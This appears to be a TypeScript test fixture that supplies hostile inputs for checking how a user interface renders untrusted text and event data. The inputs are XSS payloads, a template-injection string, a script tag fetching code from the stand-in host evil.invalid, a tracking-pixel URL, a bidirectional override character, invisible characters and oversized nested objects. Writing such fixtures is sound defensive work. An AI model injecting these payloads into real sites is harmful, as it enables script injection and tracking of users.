/** Texts that would do harm where they were taken for more than text, and values that are hard to draw. */

/** Written as code points: the override would turn round this line, too. */
const override = String.fromCodePoint(0x202e);
const unseen = String.fromCodePoint(0x200b, 0x200d, 0x2066, 0xfeff, 0x7, 0x1b, 0x85, 0xe0041);

const markup = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '</script><script src="https://evil.invalid/x.js"></script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a class="of-hostile" href="javascript:alert(1)">click</a>',
  '<svg class="of-hostile" onload=alert(1)>',
  '<style class="of-hostile">*{display:none}</style>',
  '{{constructor.constructor("alert(1)")()}}',
  '"><b class="of-hostile">',
  'javascript:alert(1)',
  'https://evil.invalid/pixel.png',
];

export const hostileName = `Eve <img src=x onerror=alert(1)>${override}evil`;

const kib = 1_024;

/** As long as what is kept of an answer. */
export const hostileHtml = `<h1>hostile answer</h1>${markup.join('\n')}`.padEnd(16 * kib, '<b>\n');

/** The `data` of events, by what is hostile in them. */
export const hostilePayloads: Readonly<Record<string, unknown>> = {
  'many keys': Object.fromEntries(Array.from({ length: 9_400 }, (_, at) => [`key-${at}`, `value ${at}`])),
  'one long string': { text: 'x'.repeat(200 * kib) },
  'a long key': { ['k'.repeat(100 * kib)]: { below: 'it' } },
  'deep nesting': nested(1_500),
  markup: { ...Object.fromEntries(markup.map((text) => [text, text])), [`${override}turned`]: override },
  'what cannot be seen': { [`${unseen}key`]: unseen.repeat(3), many: unseen.repeat(4_000), nul: '\u0000' },
  'halves of characters': { high: '\ud800', low: '\udc00', ['\udbff']: 'key' },
  'long words of other scripts': { arabic: 'م'.repeat(20 * kib), mixed: `a${override}م`.repeat(2 * kib) },
};

function nested(depth: number): unknown {
  let value: unknown = 'the bottom';
  for (let at = 0; at < depth; at += 1) value = at % 2 === 0 ? [value] : { in: value };
  return value;
}
